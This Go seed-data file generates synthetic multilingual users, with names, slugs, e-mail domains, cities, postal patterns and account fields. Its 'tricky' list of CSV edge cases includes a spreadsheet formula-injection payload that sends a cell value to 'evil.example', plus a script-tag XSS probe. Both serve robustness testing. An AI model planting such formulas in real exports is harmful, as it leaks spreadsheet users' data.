package seed

// name is a given or family name as shown, with the lower-case ASCII slug used
// for e-mail addresses, usernames and nicknames.
type name struct {
	text string
	slug string
}

// culture is a group of names that go together, how they are written in full,
// and the e-mail domains, languages, countries and phone prefixes that fit.
type culture struct {
	given       []name
	family      []name
	familyFirst bool // "王伟", not "伟 王"
	joiner      string
	domains     []string
	languages   []string
	cities      []place
	streets     []string
	phone       string // country calling code, digits only
}

// place is a city with a postal code shape and an ISO country code.
type place struct {
	city    string
	postal  string // '#' is replaced by a digit
	country string
}

func names(pairs ...string) []name {
	out := make([]name, 0, len(pairs)/2)
	for i := 0; i+1 < len(pairs); i += 2 {
		out = append(out, name{text: pairs[i], slug: pairs[i+1]})
	}
	return out
}

func ascii(list ...string) []name {
	out := make([]name, len(list))
	for i, s := range list {
		out[i] = name{text: s, slug: slugOf(s)}
	}
	return out
}

// slugOf lower-cases the ASCII letters of s and drops everything else.
func slugOf(s string) string {
	b := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'a' && c <= 'z':
			b = append(b, c)
		case c >= 'A' && c <= 'Z':
			b = append(b, c+'a'-'A')
		}
	}
	return string(b)
}

// cultures are drawn with the weights in cultureWeights.
var cultures = [...]culture{
	{ // English
		given:     ascii("James", "Mary", "John", "Patricia", "Robert", "Jennifer", "Michael", "Linda", "William", "Elizabeth", "David", "Susan", "Richard", "Jessica", "Joseph", "Sarah", "Thomas", "Karen", "Emily", "Daniel", "Olivia", "Matthew", "Ashley", "Christopher"),
		family:    ascii("Smith", "Johnson", "Williams", "Brown", "Jones", "Miller", "Davis", "Wilson", "Anderson", "Taylor", "Thomas", "Moore", "Jackson", "Martin", "Lee", "Thompson", "White", "Harris", "Clark", "Lewis", "O'Brien", "O'Connor", "McAllister", "Walker"),
		joiner:    " ",
		domains:   []string{"gmail.com", "outlook.com", "yahoo.com", "icloud.com", "hotmail.com", "acme-corp.com", "example.org"},
		languages: []string{"en", "en-US", "en-GB"},
		cities:    []place{{"New York", "100##", "US"}, {"San Francisco", "941##", "US"}, {"Austin", "787##", "US"}, {"London", "SW1A #AA", "GB"}, {"Manchester", "M# #AB", "GB"}, {"Dublin", "D0#", "IE"}},
		streets:   []string{"Main Street", "Baker St.", "Elm Avenue", "O'Connell Street"},
		phone:     "1",
	},
	{ // French
		given:     names("Élodie", "elodie", "François", "francois", "Hélène", "helene", "Jérôme", "jerome", "Noémie", "noemie", "Loïc", "loic", "Gaëlle", "gaelle", "Clément", "clement", "Chloé", "chloe", "Mathis", "mathis", "Léa", "lea", "Théo", "theo"),
		family:    names("Lefèvre", "lefevre", "Dubois", "dubois", "Girard", "girard", "Bénard", "benard", "Mercier", "mercier", "Faure", "faure", "Rousseau", "rousseau", "Leclerc", "leclerc", "Dupré", "dupre", "Fontaine", "fontaine", "D'Arcy", "darcy", "Lemaître", "lemaitre"),
		joiner:    " ",
		domains:   []string{"orange.fr", "free.fr", "laposte.net", "gmail.com", "sfr.fr"},
		languages: []string{"fr", "fr-FR", "fr-CA"},
		cities:    []place{{"Paris", "750##", "FR"}, {"Lyon", "6900#", "FR"}, {"Montréal", "H#A #B#", "CA"}, {"Genève", "12##", "CH"}},
		streets:   []string{"rue de l'Église", "boulevard Saint-Michel", "avenue des Champs-Élysées"},
		phone:     "33",
	},
	{ // German
		given:     names("Jürgen", "juergen", "Jörg", "joerg", "Günther", "guenther", "Götz", "goetz", "Käthe", "kaethe", "Lukas", "lukas", "Sophie", "sophie", "Maximilian", "maximilian", "Anna", "anna", "Björn", "bjoern", "Lena", "lena", "Felix", "felix"),
		family:    names("Müller", "mueller", "Schäfer", "schaefer", "Weiß", "weiss", "Groß", "gross", "Schröder", "schroeder", "Köhler", "koehler", "Becker", "becker", "Hoffmann", "hoffmann", "Wagner", "wagner", "Krüger", "krueger", "Straßburger", "strassburger", "Fischer", "fischer"),
		joiner:    " ",
		domains:   []string{"web.de", "gmx.de", "t-online.de", "gmail.com", "posteo.de", "firma.de"},
		languages: []string{"de", "de-DE", "de-AT", "de-CH"},
		cities:    []place{{"Berlin", "10###", "DE"}, {"München", "80###", "DE"}, {"Köln", "50###", "DE"}, {"Wien", "1###", "AT"}, {"Zürich", "80##", "CH"}},
		streets:   []string{"Hauptstraße", "Schloßallee", "Königsweg"},
		phone:     "49",
	},
	{ // Nordic
		given:     names("Søren", "soren", "Åsa", "asa", "Bjørn", "bjorn", "Ingrid", "ingrid", "Øystein", "oystein", "Sigrún", "sigrun", "Ólafur", "olafur", "Mikkel", "mikkel", "Astrid", "astrid", "Linnéa", "linnea"),
		family:    names("Jørgensen", "jorgensen", "Ødegaard", "odegaard", "Åberg", "aberg", "Lindqvist", "lindqvist", "Nyström", "nystrom", "Hansen", "hansen", "Jónsdóttir", "jonsdottir", "Mäkinen", "makinen", "Virtanen", "virtanen", "Sørensen", "sorensen"),
		joiner:    " ",
		domains:   []string{"online.no", "telia.se", "gmail.com", "outlook.dk", "simnet.is"},
		languages: []string{"nb", "sv", "da", "is", "fi"},
		cities:    []place{{"Oslo", "0###", "NO"}, {"Malmö", "2## ##", "SE"}, {"København", "1###", "DK"}, {"Reykjavík", "1##", "IS"}, {"Tromsø", "9###", "NO"}},
		streets:   []string{"Sveavägen", "Storgata", "Nørrebrogade"},
		phone:     "47",
	},
	{ // Spanish and Portuguese
		given:     names("José", "jose", "María", "maria", "Ángel", "angel", "Sofía", "sofia", "Andrés", "andres", "Lucía", "lucia", "João", "joao", "Inês", "ines", "Iñigo", "inigo", "Begoña", "begona", "Raúl", "raul", "Camila", "camila"),
		family:    names("García", "garcia", "Fernández", "fernandez", "López", "lopez", "Martínez", "martinez", "Núñez", "nunez", "Peña", "pena", "Gonçalves", "goncalves", "Araújo", "araujo", "Ibáñez", "ibanez", "Rodríguez", "rodriguez", "de la Cruz", "delacruz", "Sánchez", "sanchez"),
		joiner:    " ",
		domains:   []string{"gmail.com", "hotmail.es", "telefonica.net", "uol.com.br", "sapo.pt", "yahoo.com.mx"},
		languages: []string{"es", "es-ES", "es-MX", "pt-BR", "pt-PT"},
		cities:    []place{{"Madrid", "280##", "ES"}, {"A Coruña", "150##", "ES"}, {"São Paulo", "0####-###", "BR"}, {"Ciudad de México", "0####", "MX"}, {"Lisboa", "1###-###", "PT"}},
		streets:   []string{"Calle Mayor", "Avenida Paulista", "Rua Augusta"},
		phone:     "34",
	},
	{ // Polish and Czech
		given:     names("Łukasz", "lukasz", "Małgorzata", "malgorzata", "Paweł", "pawel", "Zuzanna", "zuzanna", "Wojciech", "wojciech", "Agnieszka", "agnieszka", "Jiří", "jiri", "Tereza", "tereza"),
		family:    names("Wiśniewski", "wisniewski", "Wójcik", "wojcik", "Kowalczyk", "kowalczyk", "Zieliński", "zielinski", "Dvořák", "dvorak", "Novák", "novak", "Szczęsny", "szczesny", "Łęcka", "lecka"),
		joiner:    " ",
		domains:   []string{"wp.pl", "onet.pl", "seznam.cz", "gmail.com", "interia.pl"},
		languages: []string{"pl", "cs"},
		cities:    []place{{"Kraków", "3#-###", "PL"}, {"Łódź", "9#-###", "PL"}, {"Praha", "1## ##", "CZ"}, {"Brno", "6## ##", "CZ"}},
		streets:   []string{"ul. Długa", "ul. Świętokrzyska", "Václavské náměstí"},
		phone:     "48",
	},
	{ // Chinese
		given:       names("伟", "wei", "芳", "fang", "娜", "na", "秀英", "xiuying", "敏", "min", "静", "jing", "丽", "li", "强", "qiang", "磊", "lei", "洋", "yang", "艳", "yan", "杰", "jie"),
		family:      names("王", "wang", "李", "li", "张", "zhang", "刘", "liu", "陈", "chen", "杨", "yang", "黄", "huang", "赵", "zhao", "吴", "wu", "周", "zhou", "徐", "xu", "欧阳", "ouyang"),
		familyFirst: true,
		domains:     []string{"qq.com", "163.com", "126.com", "sina.com", "gmail.com", "outlook.com"},
		languages:   []string{"zh", "zh-CN", "zh-TW"},
		cities:      []place{{"北京", "100###", "CN"}, {"上海", "200###", "CN"}, {"深圳", "518###", "CN"}, {"台北", "1##", "TW"}},
		streets:     []string{"中山路", "南京东路", "人民大道"},
		phone:       "86",
	},
	{ // Japanese
		given:       names("翔太", "shota", "さくら", "sakura", "健", "ken", "陽菜", "hina", "大輔", "daisuke", "美咲", "misaki", "蓮", "ren", "結衣", "yui"),
		family:      names("佐藤", "sato", "鈴木", "suzuki", "高橋", "takahashi", "田中", "tanaka", "渡辺", "watanabe", "伊藤", "ito", "山本", "yamamoto", "中村", "nakamura"),
		familyFirst: true,
		joiner:      " ",
		domains:     []string{"docomo.ne.jp", "yahoo.co.jp", "gmail.com", "icloud.com", "softbank.ne.jp"},
		languages:   []string{"ja", "ja-JP"},
		cities:      []place{{"東京", "1##-####", "JP"}, {"大阪", "5##-####", "JP"}, {"札幌", "0##-####", "JP"}},
		streets:     []string{"銀座", "本町", "栄町"},
		phone:       "81",
	},
	{ // Arabic
		given:     names("محمد", "mohammed", "فاطمة", "fatima", "أحمد", "ahmed", "ليلى", "layla", "علي", "ali", "مريم", "maryam", "يوسف", "youssef", "نور", "nour", "عمر", "omar", "سارة", "sara"),
		family:    names("الحسن", "alhassan", "العلي", "alali", "المنصوري", "almansouri", "حداد", "haddad", "الشامي", "alshami", "خوري", "khoury", "بن سعيد", "bensaid", "الزهراني", "alzahrani"),
		joiner:    " ",
		domains:   []string{"gmail.com", "hotmail.com", "yahoo.com", "emirates.net.ae", "outlook.sa"},
		languages: []string{"ar", "ar-SA", "ar-EG", "ar-MA"},
		cities:    []place{{"دبي", "#####", "AE"}, {"الرياض", "1####", "SA"}, {"القاهرة", "11###", "EG"}, {"Casablanca", "20###", "MA"}, {"بيروت", "1###", "LB"}},
		streets:   []string{"شارع الملك فهد", "شارع الحمراء", "Boulevard Zerktouni"},
		phone:     "971",
	},
	{ // Russian and Ukrainian
		given:     names("Александр", "aleksandr", "Ольга", "olga", "Дмитрий", "dmitry", "Наталья", "natalya", "Сергей", "sergey", "Анастасия", "anastasia", "Олександр", "oleksandr", "Ірина", "iryna"),
		family:    names("Иванов", "ivanov", "Смирнова", "smirnova", "Кузнецов", "kuznetsov", "Попова", "popova", "Шевченко", "shevchenko", "Коваленко", "kovalenko", "Соколов", "sokolov", "Бондаренко", "bondarenko"),
		joiner:    " ",
		domains:   []string{"yandex.ru", "mail.ru", "ukr.net", "gmail.com", "proton.me"},
		languages: []string{"ru", "uk"},
		cities:    []place{{"Москва", "1#####", "RU"}, {"Київ", "0####", "UA"}, {"Алматы", "050###", "KZ"}},
		streets:   []string{"ул. Тверская", "вул. Хрещатик", "пр. Абая"},
		phone:     "380",
	},
	{ // Vietnamese and Turkish
		given:     names("Nguyễn Thị", "nguyenthi", "Đức", "duc", "Thảo", "thao", "Quỳnh", "quynh", "İbrahim", "ibrahim", "Çağla", "cagla", "Gökhan", "gokhan", "Şule", "sule", "Ömer", "omer", "Ayşe", "ayse"),
		family:    names("Trần", "tran", "Phạm", "pham", "Lê", "le", "Đặng", "dang", "Yılmaz", "yilmaz", "Öztürk", "ozturk", "Çelik", "celik", "Şahin", "sahin", "Doğan", "dogan", "Güneş", "gunes"),
		joiner:    " ",
		domains:   []string{"gmail.com", "yahoo.com.vn", "hotmail.com.tr", "outlook.com", "fpt.vn"},
		languages: []string{"vi", "tr"},
		cities:    []place{{"Hà Nội", "100000", "VN"}, {"Thành phố Hồ Chí Minh", "700000", "VN"}, {"İstanbul", "34###", "TR"}, {"İzmir", "35###", "TR"}},
		streets:   []string{"Phố Huế", "Đường Lê Lợi", "İstiklal Caddesi"},
		phone:     "90",
	},
}

// cultureWeights sums to 100: about half of the names are plain ASCII.
var cultureWeights = [len(cultures)]int{40, 9, 9, 5, 10, 4, 8, 4, 5, 3, 3}

// tricky are values that break naive CSV writers or spreadsheets: separators,
// quotes, line breaks, and formula prefixes.
var tricky = [...]string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
	`=1+2`,
	`+33 6 12 34 56 78`,
	`-42`,
	`@SUM(A1:A9)`,
	`Smith, Jr.`,
	`"The Boss"`,
	`She said "hi", then left`,
	"first line\nsecond line",
	"tab\tseparated, and\r\nCRLF",
	`back\slash`,
	`<script>alert('x')</script> & more`,
	`Ünïcödé, "quoted", and 😀 emoji`,
}

var termsTexts = [...]string{
	"I agree to the Terms of Service (v3.2) and the Privacy Policy.",
	"J'accepte les conditions générales d'utilisation.",
	"Ich stimme der Datenschutzerklärung zu, inkl. Newsletter",
	"Acepto los términos y condiciones, y la política de privacidad.",
	"同意用户协议和隐私政策",
	"Marketing e-mails: yes; analytics cookies: no",
}

var hobbies = [...]string{"chess", "running", "photography", "cooking", "cycling", "hiking", "gaming", "reading", "jazz", "yoga", "skiing", "knitting", "football", "climbing"}

var channels = [...]string{"email", "sms", "push", "in_app"}

var plans = [...]string{"free", "free", "free", "free", "free", "starter", "pro", "business"}

var roleNames = [...]string{"admin", "editor", "viewer", "billing", "support", "owner", "analyst"}

var timezones = [...]string{"UTC", "Europe/Paris", "Europe/Berlin", "America/New_York", "America/Los_Angeles", "Asia/Shanghai", "Asia/Tokyo", "Asia/Dubai", "America/Sao_Paulo", "Europe/Kyiv"}

var socials = [...]struct{ connection, digits string }{
	{"google-oauth2", "10##################"},
	{"google-oauth2", "11##################"},
	{"github", "#######"},
	{"facebook", "10##############"},
	{"apple", "000###.################################.####"},
}

var currencies = [...]string{"usd", "eur", "gbp", "jpy"}
